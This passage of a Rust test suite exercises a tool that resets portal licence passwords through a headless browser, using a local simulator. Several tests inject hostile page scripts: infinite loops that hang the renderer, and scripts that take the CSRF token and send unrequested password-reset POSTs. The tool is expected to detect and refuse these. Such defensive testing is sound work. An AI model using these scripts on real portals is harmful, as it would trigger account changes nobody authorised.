    std::fs::write(&input, "client_ref,licence\n4054,*\n4082,*\n").unwrap();
    let output = dir.path().join("out.age");
    let said = exits_with(
        run_cmd(&sim, &input, &output, &public).args(["--yes", "--rate", "20"]),
        0,
    );
    assert!(said.contains("answered 429"), "{said}");
    let truth = sim.resets();
    // Each licence once.
    assert_eq!(truth.len(), 16, "{said}");
    assert_eq!(assert_exact_passwords(&identity, &output, &truth).len(), 16);
    drop(sim);
    // All in the browser, sessions ending too (helper-19: the 429 page a
    // press led to was read as the confirmation, or after Confirmer as a
    // result without its label; a session ended under a reload made the
    // press fail five times, 'No value found'). Exit 0 in three runs of
    // four before.
    let sim = Sim::start(
        dir.path(),
        &[
            "--shape",
            "scripted",
            "--variant",
            "1",
            "--rate-limit",
            "5",
            "--expire-after",
            "15",
        ],
    );
    let input = dir.path().join("in-4054.csv");
    std::fs::write(&input, "client_ref,licence\n4054,*\n").unwrap();
    let output = dir.path().join("out-browser.age");
    let said = exits_with(
        run_cmd(&sim, &input, &output, &public).args([
            "--yes",
            "--rate",
            "20",
            "--concurrency",
            "8",
            "--engine",
            "browser",
        ]),
        0,
    );
    let truth = sim.resets();
    assert_eq!(truth.len(), 8, "each licence once: {said}");
    assert_eq!(assert_exact_passwords(&identity, &output, &truth).len(), 8);
    assert!(
        said.contains(&format!("portal requests: {} ", sim.pages_served().len())),
        "{said}"
    );
}

#[test]
fn moving_to_the_browser_carries_the_portal_session_on() {
    if !have("chromium") {
        return;
    }
    let Setup {
        dir,
        sim,
        public,
        identity,
    } = Setup::new(&["--shape", "scripted"]);
    let input = dir.path().join("in.csv");
    std::fs::write(&input, "client_ref,licence\n4054,*\n").unwrap();
    let output = dir.path().join("out.age");
    // One session: it logs in over HTTP, resolves, reads the canary's
    // detail page, and goes on in the browser with the same cookies.
    let stderr = exits_with(
        run_cmd(&sim, &input, &output, &public).args([
            "--yes",
            "--rate",
            "100",
            "--concurrency",
            "1",
        ]),
        0,
    );
    assert!(stderr.contains("1 session in the browser"), "{stderr}");
    let truth = sim.resets();
    let last = last_passwords(&truth);
    let rows = decrypt(&identity, &output);
    assert!(!rows.is_empty());
    assert_eq!(truth.len(), rows.len(), "each licence once: {truth:?}");
    for row in &rows {
        assert_eq!(Some(&row["password"]), last.get(&row["licence"]), "{row:?}");
    }
    let counters = sim.stop();
    assert_eq!(
        counters["logins"], 1,
        "the browser logged in again: {stderr}"
    );
}

#[test]
fn the_http_engine_names_the_step_that_needs_a_script_and_a_plain_portal_starts_no_browser() {
    let Setup {
        dir, sim, public, ..
    } = Setup::new(&["--shape", "scripted"]);
    let input = dir.path().join("in.csv");
    std::fs::write(&input, "client_ref,licence\n4054,*\n").unwrap();
    let stderr = exits_with(
        run_cmd(&sim, &input, &dir.path().join("out.age"), &public)
            .args(["--yes", "--engine", "http"]),
        2,
    );
    assert!(stderr.contains("runs a script of the page"), "{stderr}");
    let out = check_cmd(&sim, &input)
        .args(["--engine", "http"])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(2), "{text}");
    assert!(text.contains("SCRIPT"), "{text}");
    assert!(sim.resets().is_empty());
    // A portal that needs no script: no browser, whatever --engine auto could do.
    let Setup {
        dir, sim, public, ..
    } = Setup::new(&[]);
    let tmp = dir.path().join("tmp");
    std::fs::create_dir(&tmp).unwrap();
    std::fs::write(&input, "client_ref,licence\n4054,*\n").unwrap();
    let stderr = exits_with(
        run_cmd(&sim, &input, &dir.path().join("out.age"), &public)
            .args([
                "--yes",
                "--rate",
                "100",
                "--browser",
                "/nonexistent/chromium",
            ])
            .env("TMPDIR", &tmp),
        0,
    );
    assert!(!stderr.contains("browser"), "{stderr}");
    assert_eq!(std::fs::read_dir(&tmp).unwrap().count(), 0);
}

#[test]
fn without_the_browser_a_scripted_portal_is_refused_before_any_reset() {
    let Setup {
        dir, sim, public, ..
    } = Setup::new(&["--shape", "scripted"]);
    let input = dir.path().join("in.csv");
    std::fs::write(&input, "client_ref,licence\n4054,*\n").unwrap();
    for engine in ["auto", "browser"] {
        let stderr = exits_with(
            run_cmd(&sim, &input, &dir.path().join("out.age"), &public).args([
                "--yes",
                "--engine",
                engine,
                "--browser",
                "/nonexistent/chromium",
            ]),
            2,
        );
        assert!(
            stderr.contains("apt-get install chromium"),
            "{engine}: {stderr}"
        );
        assert!(!stderr.contains("in the browser"), "{engine}: {stderr}");
        assert!(sim.resets().is_empty());
    }
    // A program that is no browser ends at once: said at once, not after
    // the timeout (twice 30 s before).
    let stderr = exits_with_within(
        run_cmd(&sim, &input, &dir.path().join("out.age"), &public).args([
            "--yes",
            "--rate",
            "100",
            "--browser",
            "/bin/false",
        ]),
        2,
        std::time::Duration::from_secs(20),
    );
    assert!(stderr.contains("it ended at once"), "{stderr}");
    assert!(sim.resets().is_empty());
}

/// A portal whose pages load the script their reset needs from another
/// origin (a CDN: here a second simulator): the browser refuses it, and
/// `check` and `run` stop before any Confirmer, naming the origin and
/// `--allow-origin`; with it, the script comes through (and only it: the
/// other origin is asked for nothing else) and the run resets every licence.
#[test]
fn a_script_from_another_origin_is_refused_until_allowed() {
    if !have("chromium") {
        return;
    }
    let cdn_dir = tempfile::tempdir().unwrap();
    let cdn = Sim::start(cdn_dir.path(), &[]);
    let cdn_origin = cdn.url.trim_end_matches('/').to_string();
    let Setup {
        dir,
        sim,
        public,
        identity,
    } = Setup::new(&["--shape", "scripted", "--scripts-from", &cdn_origin]);
    let input = dir.path().join("in.csv");
    std::fs::write(&input, "client_ref,licence\n4054,*\n").unwrap();
    let output = dir.path().join("out.age");
    let advice = format!("--allow-origin {cdn_origin}");
    let out = check_cmd(&sim, &input).output().unwrap();
    let said = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{said}");
    assert!(said.contains(&advice), "{said}");
    let stderr = exits_with(run_cmd(&sim, &input, &output, &public).arg("--yes"), 2);
    assert!(stderr.contains(&advice), "{stderr}");
    assert!(sim.resets().is_empty());
    assert!(!output.exists());
    assert!(cdn.pages_served().is_empty(), "{:?}", cdn.pages_served());

    exits_with(
        run_cmd(&sim, &input, &output, &public).args(["--yes", "--allow-origin", &cdn_origin]),
        0,
    );
    let served = cdn.pages_served();
    assert!(
        !served.is_empty() && served.iter().all(|p| p == "kit"),
        "{served:?}"
    );
    let truth = sim.resets();
    let last = last_passwords(&truth);
    assert_eq!(truth.len(), last.len(), "a licence reset twice");
    let rows = decrypt(&identity, &output);
    assert_eq!(rows.len(), 8);
    for row in &rows {
        assert_eq!(Some(&row["password"]), last.get(&row["licence"]), "{row:?}");
    }
}

/// A `run` of one client on a slow scripted portal, in the browser, with
/// its own TMPDIR (returned), spawned.
fn slow_run_in_its_own_tmpdir(more: &[&str]) -> (Setup, PathBuf, std::process::Child) {
    let mut run = vec!["--rate", "10"];
    run.extend_from_slice(more);
    run_in_its_own_tmpdir(&["--latency-ms", "300"], "4054,*", &run)
}

/// A `run --yes` on the scripted portal (with `sim` options more), of the
/// input's `row`, with a TMPDIR of its own; its stderr piped.
fn run_in_its_own_tmpdir(
    sim: &[&str],
    row: &str,
    run: &[&str],
) -> (Setup, PathBuf, std::process::Child) {
    let mut sim_args = vec!["--shape", "scripted"];
    sim_args.extend_from_slice(sim);
    let setup = Setup::new(&sim_args);
    let tmp = setup.dir.path().join("tmp");
    std::fs::create_dir(&tmp).unwrap();
    let input = setup.dir.path().join("in.csv");
    std::fs::write(&input, format!("client_ref,licence\n{row}\n")).unwrap();
    let output = setup.dir.path().join("out.age");
    let child = run_cmd(&setup.sim, &input, &output, &setup.public)
        .arg("--yes")
        .args(run)
        .env("TMPDIR", &tmp)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    (setup, tmp, child)
}

#[test]
fn three_quick_signals_leave_no_browser_and_no_profile() {
    if !have("chromium") {
        return;
    }
    let (setup, tmp, child) = slow_run_in_its_own_tmpdir(&[]);
    let sim = &setup.sim;
    // In the midst of the resets, three signals in quick succession.
    wait_for_resets(sim, 1);
    for _ in 0..3 {
        signal(&child, "-INT");
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let out = child.wait_with_output().unwrap();
    // 2 when the run ended on the first before any Confirmer, 3 when the
    // third made it exit at once: either way nothing is left.
    assert!(matches!(out.status.code(), Some(2 | 3)), "{:?}", out.status);
    assert_nothing_left(&tmp);
}

/// With the browser, `--capture` also keeps a picture of each page (where
/// nothing secret shows on it), beside its HTML, named in the index.
#[test]
fn check_with_the_browser_captures_a_screenshot_of_each_page() {
    if !have("chromium") {
        return;
    }
    let Setup { dir, sim, .. } = Setup::new(&["--shape", "scripted"]);
    let tmp = dir.path().join("tmp");
    std::fs::create_dir(&tmp).unwrap();
    let input = dir.path().join("in.csv");
    std::fs::write(&input, "client_ref,licence\n4054,*\n").unwrap();
    let capture = dir.path().join("capture");
    let out = check_cmd(&sim, &input)
        .arg("--capture")
        .arg(&capture)
        .env("TMPDIR", &tmp)
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{said}");
    let index = std::fs::read_to_string(capture.join("index.txt")).unwrap();
    let pictures: Vec<&str> = index
        .lines()
        .filter_map(|l| l.split_whitespace().find(|w| w.ends_with(".png")))
        .collect();
    assert!(
        pictures.iter().any(|p| p.contains("confirmation")),
        "the step before Confirmer pictured: {index}"
    );
    for picture in &pictures {
        let bytes = std::fs::read(capture.join(picture)).unwrap();
        assert!(bytes.starts_with(b"\x89PNG\r\n\x1a\n"), "{picture}");
        let html = picture.replace(".png", ".html");
        assert!(capture.join(&html).exists(), "{picture} without {html}");
        let mode = std::fs::metadata(capture.join(picture))
            .unwrap()
            .permissions();
        assert_eq!(
            std::os::unix::fs::PermissionsExt::mode(&mode) & 0o777,
            0o600
        );
    }
    assert!(sim.resets().is_empty(), "check confirmed");
    assert_nothing_left(&tmp);
}

/// Workers that walk ahead of the resolution park at their `Confirmer`
/// holding a browser context each. The browser opens at most two a core:
/// with enough workers, those parked took every context, resolution had
/// none left, and the run waited forever. Now fewer walk ahead than the
/// browser opens, so the run ends.
#[test]
fn walkers_parked_at_the_gate_leave_the_browser_a_session_to_resolve_with() {
    if !have("chromium") {
        return;
    }
    let Setup {
        dir,
        sim,
        public,
        identity,
    } = Setup::new(&["--shape", "scripted", "--latency-ms", "20"]);
    // Seven clients: a resolution long enough for the walkers ahead to
    // reach their Confirmer before it ends.
    let clients = ["4054", "4082", "4094", "4107", "4143", "4164", "4201"];
    let input = dir.path().join("in.csv");
    let rows: String = clients.iter().map(|c| format!("{c},*\n")).collect();
    std::fs::write(&input, format!("client_ref,licence\n{rows}")).unwrap();
    let output = dir.path().join("out.age");
    // Half of the workers may walk ahead: twice the browser's cap of two
    // contexts a core is enough for them to take every one.
    let cores = std::thread::available_parallelism().map_or(1, |n| n.get());
    let concurrency = (4 * cores).max(8).to_string();
    let stderr = exits_with_within(
        run_cmd(&sim, &input, &output, &public)
            .args(["--yes", "--engine", "browser", "--rate", "20"])
            .args(["--concurrency", &concurrency]),
        0,
        std::time::Duration::from_secs(120),
    );
    let truth = sim.resets();
    let last = last_passwords(&truth);
    let rows = decrypt(&identity, &output);
    assert_eq!(rows.len(), 8 * clients.len(), "{stderr}");
    assert_eq!(truth.len(), rows.len(), "each licence once: {stderr}");
    for row in &rows {
        assert_eq!(Some(&row["password"]), last.get(&row["licence"]), "{row:?}");
    }
}

/// A run killed without warning (`kill -9`) cannot remove its browser
/// profile: the next run that starts a browser does, and leaves alone a
/// profile whose run still holds it.
#[test]
fn the_next_browser_removes_the_profile_a_killed_run_left() {
    if !have("chromium") {
        return;
    }
    let (setup, tmp, child) = slow_run_in_its_own_tmpdir(&["--engine", "browser"]);
    let sim = &setup.sim;
    let input = setup.dir.path().join("in.csv");
    wait_for_resets(sim, 1);
    signal(&child, "-KILL");
    child.wait_with_output().unwrap();
    let profiles = || -> Vec<PathBuf> {
        std::fs::read_dir(&tmp)
            .unwrap()
            .map(|e| e.unwrap().path())
            .filter(|p| p.to_string_lossy().contains("sip-rotate-browser-"))
            .collect()
    };
    let left = profiles();
    assert_eq!(left.len(), 1, "{left:?}");
    // As if killed a while ago (a starting run is given 10 s to lock its own).
    let a_minute_ago = std::time::SystemTime::now() - std::time::Duration::from_secs(60);
    let age = |folder: &std::path::Path| {
        std::fs::File::options()
            .write(true)
            .open(folder.join("sip-rotate.lock"))
            .unwrap()
            .set_modified(a_minute_ago)
            .unwrap();
    };
    age(&left[0]);
    // A profile whose run still goes: its lock is held.
    let alive = tmp.join("sip-rotate-browser-alive");
    std::fs::create_dir(&alive).unwrap();
    std::fs::set_permissions(&alive, std::os::unix::fs::PermissionsExt::from_mode(0o700)).unwrap();
    let held = std::fs::File::create(alive.join("sip-rotate.lock")).unwrap();
    held.lock().unwrap();
    age(&alive);
    exits_with(
        check_cmd(sim, &input)
            .args(["--engine", "browser"])
            .env("TMPDIR", &tmp),
        0,
    );
    assert_eq!(
        profiles(),
        vec![alive.clone()],
        "only the killed run's profile goes (it was {:?}), and the check's own",
        left[0]
    );
    drop(held);
}

/// A page whose own script never returns (a loop on one licence's detail
/// page) holds its renderer: that licence fails, naming the page, after
/// one more try in a new tab (each try waited its whole time, five times);
/// the others are reset. A loop a page starts as it is left hangs the
/// next page instead: that one goes through in a new tab. A loop once the
/// password is shown: that phone is reset once, said to be unknown, never
/// reset again for a page that would hang again.
#[test]
fn a_page_whose_script_never_returns_fails_its_licence_alone() {
    if !have("chromium") {
        return;
    }
    let Setup {
        dir,
        sim,
        public,
        identity,
    } = Setup::new(&[
        "--shape",
        "scripted",
        "--hostile-page-script",
        "document.addEventListener('DOMContentLoaded', () => { if (location.pathname === '/licences/FPC172910') { while (true) {} } })",
    ]);
    let input = dir.path().join("in.csv");
    std::fs::write(&input, "client_ref,licence\n4054,*\n").unwrap();
    let output = dir.path().join("out.age");
    let report = dir.path().join("report.csv");
    let said = exits_with(
        run_cmd(&sim, &input, &output, &public)
            .args(["--yes", "--rate", "100", "--timeout", "3", "--report"])
            .arg(&report),
        1,
    );
    assert!(said.contains("1 retried after a fault"), "{said}");
    let rows = parse_csv(&std::fs::read(&report).unwrap());
    let failed: Vec<_> = rows.iter().filter(|r| r["status"] != "reset").collect();
    assert_eq!(failed.len(), 1, "{rows:?}");
    assert_eq!(failed[0]["licence"], "FPC172910");
    assert!(
        failed[0]["detail"].contains("/licences/FPC172910 stopped answering")
            && failed[0]["detail"].contains("in a new tab too"),
        "{failed:?}"
    );
    let truth = sim.resets();
    assert_eq!(truth.len(), rows.len() - 1, "{said}");
    assert!(truth.iter().all(|t| t.licence != "FPC172910"));
    assert_eq!(
        assert_exact_passwords(&identity, &output, &truth).len(),
        truth.len()
    );
    drop(sim);
    for (script, code, unknown) in [
        (
            "addEventListener('pagehide', () => { if (location.pathname === '/licences/FPC172911') { while (true) {} } })",
            0,
            None,
        ),
        (
            "new MutationObserver(() => { const p = document.getElementById('password'); if (p && p.textContent && location.pathname === '/licences/FPC172911') { while (true) {} } }).observe(document.documentElement, { subtree: true, childList: true, characterData: true })",
            1,
            Some("FPC172911"),
        ),
    ] {
        let sim = Sim::start(
            dir.path(),
            &["--shape", "scripted", "--hostile-page-script", script],
        );
        let output = dir.path().join(format!("out-{code}.age"));
        let report = dir.path().join(format!("report-{code}.csv"));
        let said = exits_with(
            run_cmd(&sim, &input, &output, &public)
                .args(["--yes", "--rate", "100", "--timeout", "3", "--report"])
                .arg(&report),
            code,
        );
        let truth = sim.resets();
        let mut licences: Vec<&str> = truth.iter().map(|t| t.licence.as_str()).collect();
        licences.sort();
        let before = licences.len();
        licences.dedup();
        assert_eq!(before, licences.len(), "a phone reset twice: {said}");
        let rows = parse_csv(&std::fs::read(&report).unwrap());
        let not_reset: Vec<_> = rows.iter().filter(|r| r["status"] != "reset").collect();
        match unknown {
            None => assert!(not_reset.is_empty(), "{said}"),
            Some(licence) => {
                assert_eq!(not_reset.len(), 1, "{said}");
                assert_eq!(not_reset[0]["licence"], licence);
                assert!(not_reset[0]["detail"].contains("unknown"), "{not_reset:?}");
            }
        }
        let written: Vec<TruthLine> = truth
            .into_iter()
            .filter(|t| Some(t.licence.as_str()) != unknown)
            .collect();
        assert_eq!(
            assert_exact_passwords(&identity, &output, &written).len(),
            written.len()
        );
    }
}

/// The shipped unit sets `MemoryDenyWriteExecute=yes`: no memory of the
/// process may become executable. The browser runs there (its scripts
/// interpreted, no JIT); with the JIT every renderer died at its start and
/// the run waited for ever. The run here is made the same way (prctl
/// PR_SET_MDWE, which systemd uses; Linux 6.3 and later).
#[test]
fn the_browser_runs_where_memory_may_not_become_executable() {
    if !have("chromium") {
        return;
    }
    const PR_SET_MDWE: libc::c_int = 65;
    const PR_MDWE_REFUSE_EXEC_GAIN: libc::c_ulong = 1;
    let Setup {
        dir,
        sim,
        public,
        identity,
    } = Setup::new(&["--shape", "scripted"]);
    let input = dir.path().join("in.csv");
    std::fs::write(
        &input,
        "client_ref,licence\n4054,FPC172910\n4054,FPC172913\n",
    )
    .unwrap();
    let output = dir.path().join("out.age");
    let mut run = run_cmd(&sim, &input, &output, &public);
    run.args(["--yes", "--rate", "100", "--timeout", "5"]);
    // SAFETY: prctl in the child before exec, constant arguments; an
    // error is said (a kernel without it: the test cannot be made).
    unsafe {
        std::os::unix::process::CommandExt::pre_exec(&mut run, || {
            if libc::prctl(PR_SET_MDWE, PR_MDWE_REFUSE_EXEC_GAIN, 0, 0, 0) != 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let out = match run.output() {
        Ok(out) => out,
        Err(e) => {
            eprintln!("this kernel cannot deny write-execute memory ({e}): not checked");
            return;
        }
    };
    let said = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{said}");
    assert!(said.contains("in the browser"), "{said}");
    let truth = sim.resets();
    assert_eq!(truth.len(), 2, "{said}");
    assert_eq!(assert_exact_passwords(&identity, &output, &truth).len(), 2);
}

/// A page's script changes something at the portal only as a press of
/// ours asks, and only once at `Confirmer`: a detail page whose script
/// reset another licence as it loaded (in `run`, and in `check`, which
/// never confirms) is refused and named, nothing reset; a result page
/// whose script sent `Confirmer` again once the password showed is
/// refused the second time, and the password written is the portal's
/// (found by a helper: both reset a licence nobody asked for, exit 0).
/// The page a login form led to is the page's own doing too: its request
/// went out as part of the login's press before.
#[test]
fn a_page_changes_nothing_at_the_portal_but_as_a_press_of_ours_asks() {
    if !have("chromium") {
        return;
    }
    // Once the page is parsed (a timer of the head's script may run before
    // the body's token is there: then it did nothing, and the run was fine).
    let on_load = r#"document.addEventListener('DOMContentLoaded', async () => { const m = document.querySelector('meta[name="csrf-token"]'); if (!m) return; try { const d = await (await fetch('/api/licences/FPC172913', {headers: {'Accept': 'application/json'}})).json(); await fetch('/api/licences/FPC172913/reinitialisation', {method: 'POST', headers: {'X-CSRF-Token': m.content, 'Content-Type': 'application/x-www-form-urlencoded'}, body: 'token=' + encodeURIComponent(d.token)}); } catch (e) {} })"#;
    let Setup {
        dir,
        sim,
        public,
        identity,
    } = Setup::new(&["--shape", "scripted", "--hostile-page-script", on_load]);
    let input = dir.path().join("in.csv");
    std::fs::write(
        &input,
        "client_ref,licence\n4054,FPC172908\n4054,FPC172910\n",
    )
    .unwrap();
    let checked = check_cmd(&sim, &input).output().unwrap();
    let said = String::from_utf8_lossy(&checked.stderr);
    assert_ne!(checked.status.code(), Some(0), "{said}");
    assert!(
        said.contains("sent POST /api/licences/FPC172913/reinitialisation by itself"),
        "{said}"
    );
    let output = dir.path().join("out.age");
    let said = exits_with(
        run_cmd(&sim, &input, &output, &public).args(["--yes", "--rate", "100"]),
        2,
    );
    assert!(said.contains("by itself"), "{said}");
    assert!(sim.resets().is_empty(), "{said}");
    assert!(!sim.pages_served().iter().any(|k| k == "api-confirm"));
    drop(sim);
    // The page a login form leads to, resetting as it loads (it fetches a
    // detail page for the token): the page's doing, not the press's.
    let after_login = r#"document.addEventListener('DOMContentLoaded', async () => { if (document.querySelector('input[type=password]')) return; try { const t = await (await fetch('/licences/FPC172913')).text(); const m = t.match(/name="csrf-token" content="([^"]+)"/); if (!m) return; const d = await (await fetch('/api/licences/FPC172913', {headers: {'Accept': 'application/json'}})).json(); await fetch('/api/licences/FPC172913/reinitialisation', {method: 'POST', headers: {'X-CSRF-Token': m[1], 'Content-Type': 'application/x-www-form-urlencoded'}, body: 'token=' + encodeURIComponent(d.token)}); } catch (e) {} })"#;
    let sim = Sim::start(
        dir.path(),
        &["--shape", "scripted", "--hostile-page-script", after_login],
    );
    // In the browser from the login on (auto logs in over HTTP).
    let said = exits_with(
        run_cmd(&sim, &input, &output, &public)
            .args(["--yes", "--rate", "100", "--engine", "browser"]),
        2,
    );
    // Still in the login's step: a script's request, where a press that
    // changes nothing was made.
    assert!(
        said.contains("sent POST /api/licences/FPC172913/reinitialisation from its script")
            && said.contains("refused, nothing was sent"),
        "{said}"
    );
    assert!(sim.resets().is_empty(), "{said}");
    assert!(!sim.pages_served().iter().any(|k| k == "api-confirm"));
    drop(sim);
    let again = r#"let sent = false; setInterval(async () => { const p = document.getElementById('password'); if (!p || !p.textContent || sent) return; sent = true; const lic = location.pathname.split('/').pop(); const m = document.querySelector('meta[name="csrf-token"]').content; try { const d = await (await fetch('/api/licences/' + lic, {headers: {'Accept': 'application/json'}})).json(); await fetch('/api/licences/' + lic + '/reinitialisation', {method: 'POST', headers: {'X-CSRF-Token': m, 'Content-Type': 'application/x-www-form-urlencoded'}, body: 'token=' + encodeURIComponent(d.token)}); } catch (e) {} }, 5)"#;
    let sim = Sim::start(
        dir.path(),
        &["--shape", "scripted", "--hostile-page-script", again],
    );
    let output = dir.path().join("out-again.age");
    let said = exits_with(
        run_cmd(&sim, &input, &output, &public).args(["--yes", "--rate", "100"]),
        0,
    );
    assert!(
        said.contains("a second time in the press of Confirmer"),
        "{said}"
    );
    let truth = sim.resets();
    assert_eq!(truth.len(), 2, "each licence once: {said}");
    assert_eq!(assert_exact_passwords(&identity, &output, &truth).len(), 2);
}

/// The browser itself killed under a run (here while a `Confirmer` waits
/// for its answer): said at once as the browser ending, the licence's
/// outcome unknown (exit 3). Before, every step waited its time for a page
/// that would never answer, and every new session 20 s for a page: a
/// minute, then "its renderer does not start" (found by a helper).
#[test]
fn a_browser_killed_under_the_run_is_said_at_once() {
    if !have("chromium") {
        return;
    }
    let (setup, tmp, child) = run_in_its_own_tmpdir(
        &["--page-latency", "api-confirm=3000"],
        "4054,FPC172910",
        &["--rate", "100", "--engine", "browser"],
    );
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    while !setup.sim.pages_served().iter().any(|k| k == "api-confirm") {
        assert!(std::time::Instant::now() < deadline, "no Confirmer");
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let main: Vec<i32> = processes_naming(&tmp)
        .into_iter()
        .filter(|(_, cmd)| is_browser_main(cmd))
        .map(|(pid, _)| pid)
        .collect();
    assert_eq!(main.len(), 1, "{main:?}");
    let killed = std::time::Instant::now();
    unsafe { libc::kill(main[0], libc::SIGKILL) };
    let out = child.wait_with_output().unwrap();
    let said = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{said}");
    assert!(said.contains("the browser ended under the run"), "{said}");
    assert!(
        killed.elapsed() < std::time::Duration::from_secs(15),
        "said after {:?}: {said}",
        killed.elapsed()
    );
    assert_nothing_left(&tmp);
}
